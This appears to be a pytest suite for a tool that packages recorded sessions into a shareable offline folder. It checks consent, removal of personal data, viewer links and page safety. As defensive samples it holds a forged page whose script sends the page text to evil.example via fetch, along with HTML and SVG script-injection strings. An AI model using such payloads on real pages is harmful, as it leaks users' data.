"""A run can be sent as a folder, and the folder opens by itself, says all, and calls nobody."""

import base64
import gzip
import io
import json
import re
import shutil
import time
from dataclasses import replace

import numpy as np
import pyarrow.parquet as pq
import pytest
from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
from msgspec import structs
from PIL import Image
from rerun.chunk import RrdReader
from support.small_worlds import STEP_NS, STILL, cube
from support.viewers import opened, pixels, serious_faults

import replay
from replay.document.file_hash import file_hash
from replay.errors import OutputError, RunFolderError
from replay.show.report.markup import CONTENT_POLICY
from replay.show.rerun_log import leading_still
from replay.show.rerun_log import web_viewer as module
from replay.show.rerun_log.moments import read_bookmarks
from replay.show.rerun_log.viewer import ViewerError
from replay.show.results.run_folder import read_run_folder
from replay.show.share.folder import require_consent, write_shared_folder
from sessions import Recorder

POSITIONS = [*[3] * 6, 0.9, *[3] * 9, 0.9, *[3] * 7]
DETECTORS = ["slow=discrete[rate_hz=20]", "late=discrete[rate_hz=12]"]
FACTS = {
    "devices": '{"LHR-5EC12E7": "left hand"}',
    "serial": "SN-5EC12E7",
    "operator": "/lab/anna.lind",
    "consent": "share",
    "pseudonym": "S07",
}
SECRET = ("5ec12e7", "anna_mueller", "matr4711", "berta schulz")
"""Serial number and names in small letters; the number of a student too."""


@pytest.fixture(scope="module")
def revealing_run_folder(tmp_path_factory):
    """A run of a recording that says serials, paths and names of people wherever it can, its own name included."""
    folder = tmp_path_factory.mktemp("anna.lind")
    file = folder / "anna_mueller_matr4711.mcap"
    with Recorder(file, meshes=dict.fromkeys(("a", "hand-left"), cube()), facts=FACTS) as recorder:
        for frame, position in enumerate(POSITIONS):
            stamp = frame * STEP_NS
            recorder.poses(stamp, {"a": ((0, 0, 0), STILL), "hand-left": ((position, 0, 0), STILL)})
            recorder.hand(stamp, "anna_mueller", "left", trigger=float(5 < frame < 9))
            for person in ("anna_mueller", "berta schulz"):
                recorder.gaze(stamp, person, (0, 5, 0), (0, -1, 0))
    return replay.run(file, detectors=DETECTORS, oracle="exact", out=folder / "run of anna.lind").out


@pytest.fixture(scope="module")
def shared_folder(revealing_run_folder, tmp_path_factory):
    """A folder made to be sent, of one run."""
    out, compress = tmp_path_factory.mktemp("sent") / "folder", gzip.compress
    with pytest.MonkeyPatch.context() as patch:  # the viewer is large, and compressing it takes most of a second
        patch.setattr(gzip, "compress", lambda data, _, mtime: compress(data, 0, mtime=mtime))
        assert write_shared_folder([read_run_folder(revealing_run_folder)], out) == ""
    return out


def run_folder_with_consent(run, stated_consent):
    """A run folder whose session states this consent."""
    folder = read_run_folder(run)
    session = structs.replace(
        folder.document.session, facts=folder.document.session.facts | {"consent": stated_consent}
    )
    return replace(folder, document=structs.replace(folder.document, session=session))


def refusal_of(runs):
    """The message with which these runs are refused for lack of consent; "" where they may be shared."""
    try:
        require_consent(runs)
    except OutputError as error:
        return str(error)
    return ""


def test_recorded_consent_is_enough(revealing_run_folder):
    """The recording states the consent ``share``: it may be shared."""
    assert refusal_of([run_folder_with_consent(revealing_run_folder, "share")]) == ""


def test_folder_is_shared_only_with_recorded_consent_to_share(revealing_run_folder):
    """One of two runs states the consent ``share``, the other something else: both are refused."""
    willing = run_folder_with_consent(revealing_run_folder, "share")
    for consent in ("none", "lab", "not stated", "", "Share", "share with the lab", "no share"):
        refusal = refusal_of([willing, run_folder_with_consent(revealing_run_folder, consent)])
        assert re.search(r"no consent to share is recorded: .*add --anyway", refusal), consent


def moment_messages(folder, name="run"):
    """Address of a moment ("miss-1") -> the message that moves the viewer there, from a shared folder."""
    text = (folder / f"{name}.js").read_text().splitlines()[0]
    return {key: base64.b64decode(item) for key, item in json.loads(text[len("window.moments=") : -1]).items()}


def control(name):
    """A message of ``viewer_control.proto``, as far as it is used, read by Google's own library."""
    file = descriptor_pb2.FileDescriptorProto(name="control.proto", package="control", syntax="proto3")
    pieces = {
        "Timeline": [("name", 1, "string")],
        "Moment": [("time", 1, "int64")],
        "Command": [("id", 1, "string")],
        "Cursor": [("timeline", 2, "Timeline"), ("moment", 3, "Moment"), ("play", 4, "bool")],
        "Request": [("cursor", 6, "Cursor"), ("command", 11, "Command")],
        "At": [("moment", 3, "Moment")],
        "Recording": [("at", 3, "At")],
        "State": [("recording", 3, "Recording")],
    }
    for piece, fields in pieces.items():
        made = file.message_type.add(name=piece)
        for field, number, kind in fields:
            plain = {"string": 9, "int64": 3, "bool": 8}.get(kind)
            type_name = {} if plain else {"type_name": f".control.{kind}"}
            made.field.add(name=field, number=number, label=1, type=plain or 11, **type_name)
    pool = descriptor_pool.DescriptorPool()
    pool.Add(file)
    return message_factory.GetMessageClass(pool.FindMessageTypeByName(f"control.{name}"))


def test_every_moment_has_a_message_with_its_time(revealing_run_folder, shared_folder):
    """Messages to Rerun's viewer, read by Google's library: one for each fault and for the moment to open at ("").

    The picture has the same moments as bookmarks, in nanoseconds of the session. The second detector, late, is named in
    an address. The cursor goes to the time line "session" and does not play.
    """
    messages = moment_messages(shared_folder)
    request = control("Request")
    cursors = {address: request.FromString(data).cursor for address, data in messages.items() if address != "layout"}
    times = {address: cursor.moment.time for address, cursor in cursors.items()}
    expected = {}
    for bookmark in read_bookmarks(revealing_run_folder / "run.rrd"):
        ending = {"slow": "", "late": "-late"}.get(bookmark.label)
        if ending is not None:
            expected[f"{bookmark.kind}-{bookmark.number}{ending}"] = bookmark.session_ns
        if bookmark.leads:
            expected[""] = bookmark.session_ns
    assert {"", "miss-1", "miss-1-late"} <= expected.keys()
    assert times == expected
    assert {(cursor.timeline.name, cursor.play) for cursor in cursors.values()} == {("session", False)}


def test_layout_message_resets_the_layout_of_the_viewer(shared_folder):
    """The message "layout" to Rerun's viewer holds the name of one of its commands."""
    message = control("Request").FromString(moment_messages(shared_folder)["layout"])
    assert message.command.id == "recording.reset_blueprint_to_default"


def test_cursor_message_holds_any_time():
    """Times of one to nine bytes of 7 bits, and a negative one, are written here and read by Google's library."""
    request = control("Request")
    times = [0, 1, 127, 128, 31_877_273_761, 2**62, -5]
    assert [request.FromString(module.cursor_at(time_ns)).cursor.moment.time for time_ns in times] == times


def test_every_miss_of_the_run_links_to_its_moment(revealing_run_folder, shared_folder):
    """The page has a link, and the viewer a message, for each row of the table of misses.

    The first detector, slow, needs no name in an address: ``miss-1``; the second does: ``miss-1-late``.
    """
    page = (shared_folder / "index.html").read_text()
    links = set(re.findall('href="#([^"]*)"', page.replace("&amp;", "&")))
    ending = {"slow": "", "late": "-late"}
    rows = read_run_folder(revealing_run_folder).rows("misses")
    addresses = {f"miss-{row['number']}{ending[row['detector']]}" for row in rows}
    assert {"miss-1", "miss-1-late"} <= addresses
    assert addresses <= links
    assert addresses <= moment_messages(shared_folder).keys()


def texts_of(folder):
    """File and text of all that can be read in a folder: scripts are unpacked, tables and recordings taken apart."""
    for file in folder.iterdir():
        yield file.name, file.name + file.read_bytes().decode("latin-1")
        for packed in re.findall(rb'packed="([^"]*)"', file.read_bytes() if file.suffix == ".js" else b""):
            yield file.name, gzip.decompress(base64.b64decode(packed)).decode("latin-1")
        if file.suffix == ".parquet":
            yield file.name, repr(pq.read_table(file).to_pylist())
        if file.suffix == ".rrd":
            batches = (chunk.to_record_batch() for chunk in RrdReader(file).stream().to_chunks())
            yield file.name, repr([(item.schema, item.to_pylist() if item.num_rows < 50 else "") for item in batches])


def secrets_in(folder, secrets):
    """(secret, file) for each text of a folder that has a secret; programs of Rerun are left out."""
    texts = [(file, text.lower()) for file, text in texts_of(folder) if file not in ("viewer.js", "re_viewer.js")]
    return [(secret, file) for file, text in texts for secret in secrets if secret in text]


@pytest.mark.slow
def test_run_folder_holds_no_serial_number_or_name(revealing_run_folder):
    """The recording of the run holds a serial number, names of people and of their files."""
    assert secrets_in(revealing_run_folder, SECRET) == []


@pytest.mark.slow
def test_shared_folder_holds_no_serial_path_or_name(revealing_run_folder, shared_folder):
    """The recording of the run holds a serial number, names of people and paths; a folder is called anna.lind.

    All files are looked through: page, picture, messages, viewer.
    """
    assert {"index.html", "run.js", "run.rrd", "viewer.js", "re_viewer.js", "picture.js", "share.json"} <= {
        file.name for file in shared_folder.iterdir()
    }
    # A full stop is no letter of base64: a packed script of megabytes holds any four letters by chance.
    paths = ("anna.lind", str(revealing_run_folder), str(revealing_run_folder.parent), str(shared_folder.parent))
    assert secrets_in(shared_folder, (*SECRET, *paths)) == []


def test_shared_page_names_pseudonym_and_session(revealing_run_folder, shared_folder):
    """The student is called S07; the digest of the session is that of its tables."""
    page = (shared_folder / "index.html").read_text(encoding="utf-8")
    digest, *_ = replay.read(revealing_run_folder)["metrics"]["session"].to_pylist()
    assert "S07" in page
    assert digest in page


def test_a_rerun_without_a_viewer_leaves_the_report_alone(revealing_run_folder, tmp_path, monkeypatch):
    """Rerun is made to ship no viewer for a browser: the folder has the page, the list of what is shared, no picture.

    The sentence says why; the page has its own script only.
    """

    def fail():
        raise ViewerError(module.NO_WEB_VIEWER)

    monkeypatch.setattr(module, "web_viewer", fail)
    sentence = write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent")
    assert sentence == "this rerun-sdk ships no viewer for a browser"
    assert sorted(file.name for file in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
    page = (tmp_path / "sent" / "index.html").read_text()
    assert page.count("<script") == 1
    assert "slow" in page


FORGED_PAGE = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
<script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""
"""A page that sends its text to a stranger, with the policy of a true page in a comment."""


def no_viewer_files():
    """The viewer of Rerun for a browser as two empty files: they take no time."""
    return {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""}


@pytest.fixture
def empty_viewer(monkeypatch):
    """The viewer of Rerun for a browser is two empty files."""
    monkeypatch.setattr(module, "web_viewer", no_viewer_files)


def test_a_damaged_picture_is_refused_before_the_viewer_starts(revealing_run_folder, tmp_path, monkeypatch):
    """The second of two runs has a picture cut to 1000 bytes, and a summary with the hash of these.

    No folder is written, and Rerun's viewer, which takes seconds, is not fetched.
    """
    monkeypatch.setattr(module, "web_viewer", lambda: pytest.fail("the viewer was started"))
    damaged = shutil.copytree(revealing_run_folder, tmp_path / "damaged")
    (damaged / "run.rrd").write_bytes((revealing_run_folder / "run.rrd").read_bytes()[:1000])
    document = json.loads((damaged / "summary.json").read_text())
    document["picture_sha256"] = file_hash(damaged / "run.rrd")
    (damaged / "summary.json").write_text(json.dumps(document))
    with pytest.raises(RunFolderError, match=r"damaged/run\.rrd is damaged; run its session again$"):
        write_shared_folder([read_run_folder(revealing_run_folder), read_run_folder(damaged)], tmp_path / "sent")
    assert not (tmp_path / "sent").exists()


def test_a_replaced_report_is_never_passed_on(revealing_run_folder, tmp_path, empty_viewer):
    """In a copy of a run folder a forged page stands in place of its report.

    The page that is sent is made from the tables: the same from both folders, with nothing of the forged one.
    """
    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
    (forged / "report.html").write_text(FORGED_PAGE.format(policy=CONTENT_POLICY))
    write_shared_folder([read_run_folder(forged)], tmp_path / "sent of forged")
    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent of true")
    page_of_forged, page_of_true = (
        (tmp_path / name / "index.html").read_text() for name in ("sent of forged", "sent of true")
    )
    assert page_of_forged == page_of_true
    assert "evil" not in page_of_forged
    assert "Nothing missed" not in page_of_forged


def test_run_without_report_and_picture_is_shared_without_picture(revealing_run_folder, tmp_path):
    """Both files are deleted from a copy of a run folder; the sentence says that the picture is missing."""
    copy = shutil.copytree(revealing_run_folder, tmp_path / "copy")
    (copy / "report.html").unlink()
    (copy / "run.rrd").unlink()
    sentence = write_shared_folder([read_run_folder(copy)], tmp_path / "sent")
    assert sentence == "no run holds a picture (run.rrd)"
    assert (tmp_path / "sent" / "index.html").is_file()


def test_summary_strings_are_text_in_the_page(revealing_run_folder, tmp_path):
    """Texts of a summary, changed by a stranger, end an element and begin a script: detector, pseudonym, scene.

    The page has a single script, its own, and its elements end once.
    """
    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
    (forged / "run.rrd").unlink()
    summary = json.loads((forged / "summary.json").read_text())
    summary["detectors"]["slow"]["spec"] = "</td><script>x</script>"
    summary["session"]["facts"]["pseudonym"] = "</title><script>x</script></head>"
    summary["session"]["scene"] = "</title><script>x</script></head>"
    (forged / "summary.json").write_text(json.dumps(summary))
    write_shared_folder([read_run_folder(forged)], tmp_path / "sent")
    page = (tmp_path / "sent" / "index.html").read_text()
    assert page.count("<script") == 1
    assert page.count("</title>") == 1
    assert page.count("</head>") == 1


@pytest.fixture(scope="module")
def folder_of_two_runs(revealing_run_folder, tmp_path_factory):
    """A folder made to be sent, of the same run twice; no test changes it."""
    folder = tmp_path_factory.mktemp("two runs") / "sent"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, "web_viewer", no_viewer_files)
        write_shared_folder([read_run_folder(revealing_run_folder)] * 2, folder)
    return folder


FILES_OF_TWO_RUNS = {"run1.html", "run1.js", "run1.rrd", "run2.html", "run2.js", "run2.rrd"}


def test_shared_runs_have_own_files_and_a_common_viewer(folder_of_two_runs):
    """Page, messages and picture of each of two runs; one list of them (index.html), and one viewer."""
    common_files = {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
    assert {file.name for file in folder_of_two_runs.iterdir()} == FILES_OF_TWO_RUNS | common_files
    assert 'data-recording="run2"' in (folder_of_two_runs / "run2.html").read_text()


def test_list_of_shared_runs_links_each_page_once(folder_of_two_runs):
    """The same run twice: two links, each with the title of its page."""
    text = (folder_of_two_runs / "index.html").read_text()
    (title,) = re.findall("<title>(.*?)</title>", (folder_of_two_runs / "run1.html").read_text())
    assert text.count('href="run1.html"') == 1
    assert text.count('href="run2.html"') == 1
    assert text.count(title) == 2


def test_shared_folder_replaces_an_earlier_folder_whole(
    folder_of_two_runs, revealing_run_folder, tmp_path, empty_viewer
):
    """A folder of one run is written, on request (``force``), over one of two runs, whose files all go."""
    folder = shutil.copytree(folder_of_two_runs, tmp_path / "sent")
    write_shared_folder([read_run_folder(revealing_run_folder)], folder, force=True)
    files = {file.name for file in folder.iterdir()}
    assert "run.js" in files
    assert not FILES_OF_TWO_RUNS & files


def wait_for_picture_in_time(page):
    """Asserts that the report is painted within 2 s, and the picture within 20 s.

    On a machine that does other work, seconds of the processor count, if they are fewer.
    """
    processor_seconds_of_report = page.processor_seconds()
    seconds_of_picture = page.wait_for("document.getElementById('picture').dataset.state", 180) / 1000
    assert min(seconds_of_picture, page.processor_seconds()) < 20
    assert page.ask("document.getElementById('picture').dataset.state") == "shown"
    seconds_of_report = page.ask("performance.getEntriesByName('first-contentful-paint')[0].startTime") / 1000
    assert min(seconds_of_report, processor_seconds_of_report) < 2


def cursor_at(page, address):
    """Nanoseconds of the session at which the viewer stands once the page is at this address."""
    page.ask(f"location.hash = {json.dumps(address)}")
    page.wait_for(f"document.getElementById('picture').dataset.shows === {json.dumps(address)}", 180)
    state = bytes(page.ask("[...document.getElementById('picture').viewer.viewer_state()]"))
    return control("State").FromString(state).recording.at.moment.time


@pytest.fixture(scope="module")
def opened_folder(shared_folder, tmp_path_factory):
    """The page of a shared folder in a browser, from a file, without a server, once its picture is there."""
    with opened((shared_folder / "index.html").as_uri(), tmp_path_factory.mktemp("browser")) as page:
        wait_for_picture_in_time(page)
        yield page


@pytest.mark.slow
def test_every_link_of_a_shared_page_moves_the_picture(opened_folder, shared_folder):
    """The address of each moment is opened: Rerun's viewer in the page then stands at the time of its message."""
    messages = moment_messages(shared_folder)
    addresses = messages.keys() - {"", "layout"}
    assert addresses
    for address in addresses:
        time_ns = control("Request").FromString(messages[address]).cursor.moment.time
        assert cursor_at(opened_folder, address) == time_ns


@pytest.mark.slow
def test_shared_page_draws_the_picture_beside_the_report(opened_folder):
    """The right half of the page, 1280 pixels wide, has over 500 colours at the picture, as only a drawing has."""
    opened_folder.ask("document.getElementById('picture').scrollIntoView()")
    time.sleep(1)  # until the viewer has drawn
    right_half = pixels(opened_folder.png())[:, 640:].reshape(-1, 3)
    assert len(np.unique(right_half, axis=0)) > 500


@pytest.mark.slow
def test_shared_page_is_accessible_and_requests_nothing_from_elsewhere(opened_folder, shared_folder, tmp_path):
    """Every request is for a file of the folder, or data; no error, and no serious fault by the checker axe."""
    requests = opened_folder.requests()
    assert requests
    assert [url for url in requests if not url.startswith((shared_folder.as_uri(), "data:"))] == []
    assert opened_folder.errors() == []
    assert serious_faults(opened_folder, tmp_path) == []


STILL_IN_PAGE = r'class="open-picture"><img src="data:image/webp;base64,([A-Za-z0-9+/=]+)"'


def test_shared_page_has_the_still_as_a_webp_picture(shared_folder):
    """420 by 238 pixels in the report of a user; in tests a fifth of them each way (``coarse_stills``)."""
    (still,) = re.findall(STILL_IN_PAGE, (shared_folder / "index.html").read_text())
    with Image.open(io.BytesIO(base64.b64decode(still))) as image:
        assert image.format == "WEBP"
        assert image.size == (84, 48)


def test_still_larger_than_the_limit_is_left_out(shared_folder, monkeypatch):
    """The still is 84 pixels wide; the limit is lowered to 50."""
    monkeypatch.setattr(leading_still, "LARGEST_SIDE_PIXELS", 50)
    assert leading_still.read_still(shared_folder / "run.rrd") == ""


def test_still_cut_short_or_of_an_svg_is_left_out(shared_folder, monkeypatch):
    """An SVG may hold a script; the first 40 letters of a WebP picture are none. Both stand in the recording."""
    (still,) = re.findall(STILL_IN_PAGE, (shared_folder / "index.html").read_text())
    for text in (base64.b64encode(b"<svg onload=alert(1)>").decode(), still[:40]):
        monkeypatch.setattr(leading_still, "read_texts", lambda *_, text=text: (True, [text]))
        assert leading_still.read_still(shared_folder / "run.rrd") == ""


@pytest.mark.slow
def test_phone_shows_the_still_and_loads_the_picture_on_request(shared_folder, tmp_path):
    """A phone of 400 x 800 pixels: a still, a link below it; Rerun's viewer is requested only after a click on that.

    No error, and no serious fault by the checker axe.
    """
    with opened((shared_folder / "index.html").as_uri(), tmp_path, (400, 800)) as page:
        still_top, link_top = page.ask(
            "[...document.querySelectorAll('.open-picture img, .open-picture a')].map((node) => node.offsetTop)"
        )
        assert still_top < link_top
        assert not page.ask("document.getElementById('picture').checkVisibility()")
        assert [url for url in page.requests() if "viewer" in url] == []
        page.ask("document.querySelector('.open-picture a').click(); 0")
        page.wait_for("document.getElementById('picture').dataset.state === 'shown'", 180)
        assert page.errors() == []
        assert serious_faults(page, tmp_path) == []
